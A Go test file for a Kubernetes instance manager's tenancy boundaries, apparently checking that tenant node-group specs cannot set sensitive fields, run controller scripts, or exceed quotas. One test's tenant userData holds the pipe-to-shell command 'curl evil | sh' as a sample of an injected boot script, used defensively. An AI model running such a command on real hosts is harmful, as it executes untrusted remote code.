package boundaries

import (
	"reflect"
	"strings"
	"testing"

	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"github.com/instancemgr/instance-manager/api/v1alpha1"
)

func TestEffectiveFailsClosed(t *testing.T) {
	empty := map[string]string{}
	example := exampleData
	runEffectiveCases(t, []effectiveCase{
		{
			name:      "a sensitive path the ConfigMap does not name is admin-only: removed",
			data:      empty,
			tenant:    "eks: {configuration: {userData: [{name: x, stage: PreBootstrap, data: 'curl evil | sh'}], instanceType: m5.large}}",
			want:      "eks: {configuration: {instanceType: m5.large}}",
			overrides: []Override{{"spec.eks.configuration.userData", []any{map[string]any{"name": "x", "stage": "PreBootstrap", "data": "curl evil | sh"}}, nil}},
		},
		{
			name:   "a sensitive path the ConfigMap shares is the tenant's",
			data:   map[string]string{"boundaries": "shared: {replace: [spec.eks.configuration.bootstrapArguments]}"},
			tenant: "eks: {configuration: {bootstrapArguments: --kubelet-extra-args=--v=2}}",
			want:   "eks: {configuration: {bootstrapArguments: --kubelet-extra-args=--v=2}}",
		},
		{
			name:   "sharing an ancestor shares the sensitive paths below it",
			data:   map[string]string{"boundaries": "shared: {replace: [spec.eks.configuration]}"},
			tenant: "eks: {configuration: {volumes: [{name: /dev/xvdb, size: 10}]}}",
			want:   "eks: {configuration: {volumes: [{name: /dev/xvdb, size: 10}]}}",
		},
		{
			name:      "an admin default on a sensitive path wins",
			data:      map[string]string{"defaults": "spec: {eks: {configuration: {metadataOptions: {httpTokens: required}}}}"},
			tenant:    "eks: {configuration: {metadataOptions: {httpTokens: optional}}}",
			want:      "eks: {configuration: {metadataOptions: {httpTokens: required}}}",
			overrides: []Override{{"spec.eks.configuration.metadataOptions", map[string]any{"httpTokens": "optional"}, map[string]any{"httpTokens": "required"}}},
		},
		{
			name:   "the example ConfigMap and the short tenant group: nothing sensitive, nothing removed",
			data:   example,
			tenant: "eks: {minSize: 1, maxSize: 2, configuration: {instanceType: t2.small}}",
			want: `provisioner: eks
strategy: {type: rollingUpdate, rollingUpdate: {maxUnavailable: 1}}
eks:
  minSize: 1
  maxSize: 2
  configuration:
    clusterName: a-managed-cluster
    subnets: [subnet-1234, subnet-2345, subnet-3456]
    keyPairName: a-managed-keypair
    image: ami-1234
    instanceType: t2.small
    labels: {a-default-label: "true"}
    taints: [{key: default-taint, value: a-taint, effect: NoSchedule}]
    roleName: a-managed-role
    instanceProfileName: a-managed-profile
    tags: [{key: a-default-tag, value: a-default-value}]
    securityGroups: [sg-1234]`,
		},
	})
}

func TestEffectiveRulesFollowTheProvisioner(t *testing.T) {
	restricted := map[string]string{
		"boundaries": "restricted: [spec.eks.configuration.clusterName, spec.eks.configuration.subnets, spec.eks.configuration.roleName]",
		"defaults":   "spec: {eks: {configuration: {clusterName: prod, subnets: [subnet-1]}}}",
	}
	runEffectiveCases(t, []effectiveCase{
		{
			name:   "eks-managed: the eks rule and default apply to the equivalent path",
			data:   restricted,
			tenant: "provisioner: eks-managed\neks-managed: {configuration: {clusterName: other, subnets: [subnet-9], instanceType: m5.large}}",
			want:   "provisioner: eks-managed\neks: {configuration: {clusterName: prod, subnets: [subnet-1]}}\neks-managed: {configuration: {clusterName: prod, subnets: [subnet-1], instanceType: m5.large}}",
			overrides: []Override{
				{"spec.eks-managed.configuration.clusterName", "other", "prod"},
				{"spec.eks-managed.configuration.subnets", []any{"subnet-9"}, []any{"subnet-1"}},
			},
		},
		{
			name:      "eks-fargate: a role rule follows, without the default (a name is not an ARN)",
			data:      restricted,
			tenant:    "provisioner: eks-fargate\neks-fargate: {podExecutionRoleArn: 'arn:aws:iam::1:role/admin', selectors: [{namespace: a}]}",
			want:      "provisioner: eks-fargate\neks: {configuration: {clusterName: prod, subnets: [subnet-1]}}\neks-fargate: {clusterName: prod, subnets: [subnet-1], selectors: [{namespace: a}]}",
			overrides: []Override{{"spec.eks-fargate.podExecutionRoleArn", "arn:aws:iam::1:role/admin", nil}},
		},
		{
			name: "the managed node group's aliases instanceTypes and nodeLabels follow the rules on instanceType and labels (review N30)",
			data: map[string]string{
				"boundaries": "restricted: [spec.eks.configuration.instanceType, spec.eks.configuration.labels]",
				"defaults":   "spec: {eks: {configuration: {instanceType: m5.large, labels: {team: a}}}}",
			},
			tenant: "provisioner: eks-managed\neks-managed: {configuration: {instanceTypes: [p4d.24xlarge], nodeLabels: {dedicated: payments}}}",
			want:   "provisioner: eks-managed\neks: {configuration: {instanceType: m5.large, labels: {team: a}}}\neks-managed: {configuration: {instanceType: m5.large, labels: {team: a}}}",
			overrides: []Override{
				{"spec.eks-managed.configuration.instanceTypes", []any{"p4d.24xlarge"}, nil},
				{"spec.eks-managed.configuration.nodeLabels", map[string]any{"dedicated": "payments"}, nil},
			},
		},
		{
			name:   "eks-managed amiType, version and releaseVersion are sensitive like image: removed when not shared",
			data:   map[string]string{},
			tenant: "provisioner: eks-managed\neks-managed: {configuration: {amiType: AL2_x86_64, version: '1.20', releaseVersion: 1.20.4-20210621, instanceType: m5.large}}",
			want:   "provisioner: eks-managed\neks-managed: {configuration: {instanceType: m5.large}}",
			overrides: []Override{
				{"spec.eks-managed.configuration.amiType", "AL2_x86_64", nil},
				{"spec.eks-managed.configuration.releaseVersion", "1.20.4-20210621", nil},
				{"spec.eks-managed.configuration.version", "1.20", nil},
			},
		},
		{
			name:   "sharing image shares the managed node group's AMI fields",
			data:   map[string]string{"boundaries": "shared: {replace: [spec.eks.configuration.image]}"},
			tenant: "provisioner: eks-managed\neks-managed: {configuration: {amiType: AL2023_x86_64_STANDARD, version: '1.31', releaseVersion: 1.31.0-20241024}}",
			want:   "provisioner: eks-managed\neks-managed: {configuration: {amiType: AL2023_x86_64_STANDARD, version: '1.31', releaseVersion: 1.31.0-20241024}}",
		},
		{
			name:      "eks-managed forceVersionUpdate is admin-only: removed when not shared",
			data:      map[string]string{},
			tenant:    "provisioner: eks-managed\neks-managed: {configuration: {forceVersionUpdate: true, instanceType: m5.large}}",
			want:      "provisioner: eks-managed\neks-managed: {configuration: {instanceType: m5.large}}",
			overrides: []Override{{"spec.eks-managed.configuration.forceVersionUpdate", true, nil}},
		},
		{
			name:   "forceVersionUpdate shared by the admin",
			data:   map[string]string{"boundaries": "shared: {replace: [spec.eks-managed.configuration.forceVersionUpdate]}"},
			tenant: "provisioner: eks-managed\neks-managed: {configuration: {forceVersionUpdate: true}}",
			want:   "provisioner: eks-managed\neks-managed: {configuration: {forceVersionUpdate: true}}",
		},
		{
			name:      "bootstrapOptions (the kubelet's max-pods) is sensitive",
			data:      map[string]string{},
			tenant:    "eks: {configuration: {bootstrapOptions: {maxPods: 100000}, instanceType: m5.large}}",
			want:      "eks: {configuration: {instanceType: m5.large}}",
			overrides: []Override{{"spec.eks.configuration.bootstrapOptions", map[string]any{"maxPods": int64(100000)}, nil}},
		},
		{
			name:   "a derived default never creates another provisioner's section",
			data:   restricted,
			tenant: "eks: {minSize: 1}",
			want:   "eks: {minSize: 1, configuration: {clusterName: prod, subnets: [subnet-1]}}",
		},
		{
			name: "a rule the ConfigMap writes for the other section itself wins",
			data: map[string]string{
				"boundaries": "restricted: [spec.eks.configuration.clusterName]\nshared: {replace: [spec.eks-managed.configuration.clusterName]}",
				"defaults":   "spec: {eks: {configuration: {clusterName: prod}}}",
			},
			tenant: "eks-managed: {configuration: {clusterName: mine}}",
			want:   "eks: {configuration: {clusterName: prod}}\neks-managed: {configuration: {clusterName: mine}}",
		},
	})
}

func TestAdminNamespaceGetsTheRulesAsWritten(t *testing.T) {
	c := mustParse(t, exampleData)
	in := Input{Spec: specOf(t, "provisioner: eks-managed\neks-managed: {configuration: {clusterName: my-eks-cluster, nodeRole: 'arn:aws:iam::1:role/r'}}\neks: {configuration: {userData: [{data: x}]}}")}
	tenant, err := c.Effective(in)
	if err != nil {
		t.Fatal(err)
	}
	in.AdminNamespace = true
	admin, err := c.Effective(in)
	if err != nil {
		t.Fatal(err)
	}
	if got, _ := getPath(tenant.Spec, []string{"eks-managed", "configuration", "clusterName"}); got != "a-managed-cluster" {
		t.Errorf("tenant: clusterName = %v, want the admin's", got)
	}
	if got, _ := getPath(admin.Spec, []string{"eks-managed", "configuration", "clusterName"}); got != "my-eks-cluster" {
		t.Errorf("admin namespace: clusterName = %v, want the group's own", got)
	}
	if _, ok := getPath(admin.Spec, []string{"eks", "configuration", "userData"}); !ok || len(admin.Overrides) != 0 {
		t.Errorf("admin namespace: userData dropped or overrides %v", admin.Overrides)
	}
	if probs, _ := c.Verify(in, admin.Spec); len(probs) != 0 {
		t.Errorf("Verify in the admin namespace: %v", probs)
	}
}

func TestVerifyCatchesALaterMutation(t *testing.T) {
	c := mustParse(t, exampleData)
	in := Input{Spec: specOf(t, tenantShortSpec)}
	res, err := c.Effective(in)
	if err != nil {
		t.Fatal(err)
	}
	if probs, err := c.Verify(in, res.Spec); err != nil || len(probs) != 0 {
		t.Fatalf("Verify(effective) = %v, %v; want nothing", probs, err)
	}
	tampered := specOf(t, string(mustJSON(t, res.Spec)))
	tampered["eks"].(map[string]any)["configuration"].(map[string]any)["image"] = "ami-0bad"
	tampered["eks"].(map[string]any)["configuration"].(map[string]any)["userData"] = []any{map[string]any{"data": "x"}}
	probs, err := c.Verify(in, tampered)
	if err != nil {
		t.Fatal(err)
	}
	got := strings.Join(probs, "\n")
	for _, want := range []string{`spec.eks.configuration.image is "ami-0bad" but the boundaries give "ami-1234"`, `spec.eks.configuration.userData is [{"data":"x"}] but the boundaries leave it unset`} {
		if !strings.Contains(got, want) {
			t.Errorf("Verify problems %q lack %q", got, want)
		}
	}
	if probs, _ := c.Verify(Input{Spec: in.Spec, NamespaceExcluded: true}, tampered); len(probs) != 0 {
		t.Errorf("an excluded namespace is verified: %v", probs)
	}
}

func TestParseTenancyKeys(t *testing.T) {
	c := mustParse(t, map[string]string{
		"excludedNamespaces": "[kube-system, platform]",
		"sharedAnnotations":  "[instancemgr.keikoproj.io/os-family]",
		"crdStrategy":        "allowedKinds: [{group: argoproj.io, kind: Workflow}, {group: upgrademgr.keikoproj.io, kind: RollingUpgrade, tenantFields: [spec.strategy, spec.nodeIntervalSeconds]}]",
		"quotas":             "perNamespace: {maxGroups: 2}\ntotal: {maxTotalVCPU: 100}",
	})
	if !c.Excluded("platform") || c.Excluded("team-a") {
		t.Errorf("excluded namespaces = %v", c.ExcludedNamespaces)
	}
	if _, ok := c.CRDKind("argoproj.io", "Workflow"); !ok {
		t.Errorf("crd kinds = %v", c.CRDKinds)
	}
	if ru, ok := c.CRDKind("upgrademgr.keikoproj.io", "RollingUpgrade"); !ok || !reflect.DeepEqual(ru.TenantFields, []string{"spec.strategy", "spec.nodeIntervalSeconds"}) {
		t.Errorf("RollingUpgrade = %v, %v", ru, ok)
	}
	if _, ok := c.CRDKind("batch", "Job"); ok || c.CRDKindList() != "Workflow.argoproj.io, RollingUpgrade.upgrademgr.keikoproj.io" {
		t.Errorf("crd kinds = %v", c.CRDKindList())
	}
	if got := c.RestrictedAnnotations(nil, map[string]string{"instancemgr.keikoproj.io/os-family": "windows", "instancemgr.keikoproj.io/lock-upgrades": "true", "team": "a"}); len(got) != 1 || got[0] != "instancemgr.keikoproj.io/lock-upgrades" {
		t.Errorf("restricted annotations = %v", got)
	}
	// No crdStrategy (or a nil Config): no kind, not even RollingUpgrade,
	// whose controller runs scripts (security review N1).
	for _, d := range []*Config{mustParse(t, nil), nil} {
		if _, ok := d.CRDKind("upgrademgr.keikoproj.io", "RollingUpgrade"); ok || d.CRDKindList() != "none" {
			t.Errorf("default crd kinds = %v", d.CRDKindList())
		}
	}
	for name, tc := range map[string]struct{ data map[string]string }{
		"data.excludedNamespaces[0]: \"Not_A_Namespace\"":                   {map[string]string{"excludedNamespaces": "[Not_A_Namespace]"}},
		"data.sharedAnnotations[0]: \"team\" is not a behaviour annotation": {map[string]string{"sharedAnnotations": "[team]"}},
		"data.crdStrategy.allowedKinds[0]: kind Pod of group \"\"":          {map[string]string{"crdStrategy": "allowedKinds: [{group: '', kind: Pod}]"}},
		"data.crdStrategy.allowedKinds[0]: needs a kind and a group":        {map[string]string{"crdStrategy": "allowedKinds: [{group: '*', kind: '*'}]"}},
		"data.crdStrategy.allowedKinds[0].tenantFields[0]: \"spec\" covers spec.preDrain.script, which the RollingUpgrade.upgrademgr.keikoproj.io controller runs as a command": {
			map[string]string{"crdStrategy": "allowedKinds: [{group: upgrademgr.keikoproj.io, kind: RollingUpgrade, tenantFields: [spec]}]"}},
		"data.crdStrategy.allowedKinds[0].tenantFields[1]: \"spec.postDrain\" covers spec.postDrain.script": {
			map[string]string{"crdStrategy": "allowedKinds: [{group: upgrademgr.keikoproj.io, kind: RollingUpgrade, tenantFields: [spec.strategy, spec.postDrain]}]"}},
		"data.crdStrategy.allowedKinds[0].tenantFields[0]: \"status.currentStatus\" cannot be shared": {
			map[string]string{"crdStrategy": "allowedKinds: [{group: argoproj.io, kind: Workflow, tenantFields: [status.currentStatus]}]"}},
		"data.crdStrategy.allowedKinds[0].tenantFields[0]: \"spec.*\" is not a dotted field path": {
			map[string]string{"crdStrategy": "allowedKinds: [{group: argoproj.io, kind: Workflow, tenantFields: ['spec.*']}]"}},
		"data.crdStrategy: unknown field \"fields\"":                            {map[string]string{"crdStrategy": "allowedKinds: [{group: argoproj.io, kind: Workflow, fields: [spec]}]"}},
		"data.quotas: unknown field \"maxGroup\"":                               {map[string]string{"quotas": "perNamespace: {maxGroup: 2}"}},
		"data.quotas.perNamespace.maxGroups: expected an integer, got a string": {map[string]string{"quotas": "perNamespace: {maxGroups: five}"}},
		"data.quotas: malformed YAML":                                           {map[string]string{"quotas": "perNamespace: {maxGroups: 1, maxGroups: 2}"}},
		"data.crdStrategy.allowedKinds: expected a list, got an object":         {map[string]string{"crdStrategy": "allowedKinds: {group: x, kind: Y}"}},
		"data.quotas.perNamespace.maxSize: -1 is negative":                      {map[string]string{"quotas": "perNamespace: {maxSize: -1}"}},
		"data.quotas.total: only maxGroups":                                     {map[string]string{"quotas": "total: {maxSize: 3}"}},
	} {
		_, err := Parse(tc.data)
		if err == nil || !strings.Contains(err.Error(), name) {
			t.Errorf("Parse(%v) = %v, want an error containing %q", tc.data, err, name)
		}
	}
}

func ig(ns, name, typ string, maxSize int64) v1alpha1.InstanceGroup {
	return v1alpha1.InstanceGroup{
		ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: name},
		Spec: v1alpha1.InstanceGroupSpec{Provisioner: "eks", EKS: &v1alpha1.EKSSpec{MaxSize: maxSize,
			Configuration: &v1alpha1.EKSConfiguration{InstanceType: typ}}},
	}
}

func TestQuotasCheck(t *testing.T) {
	q := mustParse(t, map[string]string{"quotas": `
perNamespace: {maxGroups: 2, maxSize: 10, maxTotalVCPU: 40, instanceTypes: ["m5.*", t3.large], tenancies: [default], maxVolumeSize: 100, maxVolumeIops: 3000, maxWarmPoolSize: 2}
namespaces:
  big: {maxSize: 100}
total: {maxGroups: 4}
vcpus: {m5.metal: 96}
`}).Quotas
	others := []v1alpha1.InstanceGroup{ig("a", "one", "m5.large", 5), ig("b", "two", "m5.large", 1), ig("b", "three", "m5.large", 1)}
	dedicated := ig("a", "new", "m5.large", 1)
	dedicated.Spec.EKS.Configuration.Placement = &v1alpha1.PlacementSpec{Tenancy: "dedicated"}
	io2 := ig("a", "new", "m5.large", 1)
	io2.Spec.EKS.Configuration.Volumes = []v1alpha1.NodeVolume{{Name: "/dev/xvdb", Type: "io2", Size: 16000, Iops: 64000}}
	warm := ig("a", "new", "m5.large", 1)
	warm.Spec.EKS.WarmPool = &v1alpha1.WarmPoolSpec{MinSize: 0, MaxSize: 5}
	for _, tc := range []struct {
		name   string
		group  v1alpha1.InstanceGroup
		others []v1alpha1.InstanceGroup
		want   []string
	}{
		{"within every bound", ig("a", "new", "m5.large", 2), others, nil},
		{"the group itself is not counted twice", ig("a", "one", "m5.large", 5), others, nil},
		{"maxSize", ig("a", "new", "m5.large", 11), others, []string{"spec.eks.maxSize: 11 is above quotas.perNamespace.maxSize (10)"}},
		{"a namespace entry replaces perNamespace", ig("big", "new", "p5.48xlarge", 50), nil, nil},
		{"instance types", ig("a", "new", "p5.48xlarge", 1), others, []string{`instance type "p5.48xlarge" is not allowed by quotas.perNamespace.instanceTypes (m5.*, t3.large)`, "202 vCPUs at maxSize in namespace a"}},
		{"total vCPU", ig("a", "new", "m5.4xlarge", 3), others, []string{"58 vCPUs at maxSize in namespace a would be above quotas.perNamespace.maxTotalVCPU (40)"}},
		{"an unknown type cannot be counted", ig("a", "new", "m5.weird", 1), others, []string{`the vCPUs of instance type "m5.weird" are unknown; quotas.perNamespace.maxTotalVCPU needs it`}},
		{"vcpus from the ConfigMap", ig("a", "new", "m5.metal", 1), others, []string{"106 vCPUs at maxSize in namespace a would be above quotas.perNamespace.maxTotalVCPU (40)"}},
		{"groups per namespace", ig("b", "four", "m5.large", 1), others, []string{"3 InstanceGroups in namespace b would be above quotas.perNamespace.maxGroups (2)"}},
		{"groups in the cluster", ig("c", "four", "m5.large", 1), append(others, ig("d", "x", "m5.large", 1)), []string{"5 InstanceGroups in the cluster would be above quotas.total.maxGroups (4)"}},
		{"tenancy", dedicated, others, []string{`tenancy "dedicated" is not allowed by quotas.perNamespace.tenancies (default)`}},
		{"volume size and IOPS", io2, others, []string{"spec.eks.configuration.volumes[0]: 16000 GiB is above quotas.perNamespace.maxVolumeSize (100)", "spec.eks.configuration.volumes[0]: 64000 IOPS is above quotas.perNamespace.maxVolumeIops (3000)"}},
		{"warm pool", warm, others, []string{"spec.eks.warmPool: 5 instances is above quotas.perNamespace.maxWarmPoolSize (2)"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			got := q.Check(&tc.group, tc.others)
			if len(got) != len(tc.want) {
				t.Fatalf("Check = %q, want %q", got, tc.want)
			}
			for i := range got {
				if !strings.Contains(got[i], tc.want[i]) {
					t.Errorf("problem %d = %q, want it to contain %q", i, got[i], tc.want[i])
				}
			}
		})
	}
	var none *Quotas
	if got := none.Check(&others[0], others); got != nil {
		t.Errorf("nil quotas: %v", got)
	}
}

// A maxSize whose vCPUs overflow int64 (2^61+512 x 4 wraps negative) is
// counted as the most there can be, not as a negative that passes every
// vCPU budget and lowers every later sum (review 2026-11-26 N6).
func TestQuotasVCPUsSaturate(t *testing.T) {
	q := mustParse(t, map[string]string{"quotas": "namespaces: {v: {maxGroups: 10}}\ntotal: {maxTotalVCPU: 64}"}).Quotas
	huge := ig("v", "huge", "m5.xlarge", 1<<61+512)
	got := q.Check(&huge, nil)
	if len(got) != 1 || !strings.Contains(got[0], "9223372036854775807 vCPUs at maxSize in the cluster would be above quotas.total.maxTotalVCPU (64)") {
		t.Fatalf("Check = %q", got)
	}
	// Beside it, an existing group of that size keeps the sum saturated.
	small := ig("v", "small", "m5.xlarge", 1)
	if got := q.Check(&small, []v1alpha1.InstanceGroup{huge}); len(got) != 1 {
		t.Fatalf("Check beside an overflowing group = %q, want it refused", got)
	}
}
